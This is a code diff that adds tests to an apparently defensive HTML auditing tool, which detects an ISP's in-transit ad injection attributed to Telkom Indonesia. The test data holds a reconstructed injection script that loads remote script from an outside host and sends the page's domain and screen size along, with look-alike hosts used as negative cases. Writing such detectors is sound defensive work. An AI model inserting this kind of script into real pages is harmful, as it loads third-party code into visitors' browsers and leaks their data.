@@ -298,3 +298,56 @@ def test_an_ad_sdks_add_on_keeps_its_stronger_finding_alone(audit_html: AuditHtm
     assert _extension(report) == []
     assert [f.severity for f in report.findings if f.kind == "browser-adware"] == [
         Severity.MEDIUM]
+
+
+def _in_transit(host: str = "cfs2.uzone.id", path: str = "7xk2qa") -> str:
+    """An ISP's in-transit injection as Telkom Indonesia writes it before `</body>`: its
+    function builds a request to its host and appends it as a script (written after the
+    form, with a made-up path, key and blob)."""
+    return (
+        '<script type="text/javascript">if (self==top) {function netbro_cache_analytics(fn, '
+        'callback) {setTimeout(function() {fn();callback();}, 0);}function sync(fn) {fn();}'
+        'function requestCfs(){var idc_glo_url = (location.protocol=="https:" ? "https://" : '
+        '"http://");var idc_glo_r = Math.floor(Math.random()*99999999999);var url = '
+        f'idc_glo_url+ "{host}/{path}/request" + "?id=1" + "&enc=Qx7Tz0aB" + "&params=" + '
+        '"Zm9vYmFyYmF6cXV4%2fZm9vYmFy" + "&idc_r="+idc_glo_r + "&domain="+document.domain + '
+        '"&sw="+screen.width+"&sh="+screen.height;var bsa = document.createElement(\'script\');'
+        "bsa.type = 'text/javascript';bsa.async = true;bsa.src = url;(document."
+        "getElementsByTagName('head')[0]||document.getElementsByTagName('body')[0])."
+        "appendChild(bsa);}netbro_cache_analytics(requestCfs, function(){});};</script>")
+
+
+@pytest.mark.parametrize("host", ["cfs2.uzone.id", "cfs.uzone.id", "p01.notifa.info",
+                                  "cfs.u-ad.info"])
+def test_an_isps_in_transit_injection_is_medium_at_its_script(audit_html: AuditHtml,
+                                                               host: str) -> None:
+    """The code an ISP wrote into a plain-HTTP page (Telkom Indonesia's `requestCfs`)
+    requests nothing until it runs: its own code names it, at its script's line."""
+    html = page(footer="\n\n" + _in_transit(host))
+    report = audit_html(html, url=URL)
+    [found] = [f for f in report.findings if f.kind == "browser-adware"]
+    assert found.severity is Severity.MEDIUM
+    assert "Telkom Indonesia (uzone.id)" in found.message and "in-transit" in found.message
+    assert found.line == html.splitlines().index(_in_transit(host)) + 1
+    assert "Telkom Indonesia (uzone.id)" in {n.network for n in report.networks}
+
+
+@pytest.mark.parametrize("footer", [
+    # a site's stub disarming the injection ("menonaktifkan inject telkom")
+    "<script>if (self==top) {\nfunction netbro_cache_analytics(fn, callback) {}\n"
+    "function sync(fn) {}\nfunction requestCfs(){}\n}</script>",
+    # the same code towards a look-alike host, or a host under the portal's name
+    _in_transit("cfs2.uzone.id.evil.test"),
+    _in_transit("notcfs2.uzone.id"),
+    _in_transit("news.uzone.id"),
+    # the words in prose, a <pre> quoting the code, an HTML comment keeping it
+    "<p>Telkom's injected requestCfs() calls cfs2.uzone.id/2fn7a2/request on every page.</p>",
+    "<pre>" + _in_transit().replace("<", "&lt;") + "</pre>",
+    "<!-- " + _in_transit() + " -->",
+    # the portal's own image
+    '<img src="https://img.uzone.id/news/2017/08/cover.jpg" alt="">',
+])
+def test_an_in_transit_look_alike_is_none(audit_html: AuditHtml, footer: str) -> None:
+    report = audit_html(page(footer=footer), url=URL)
+    assert _adware(report) == []
+    assert "Telkom Indonesia (uzone.id)" not in {n.network for n in report.networks}
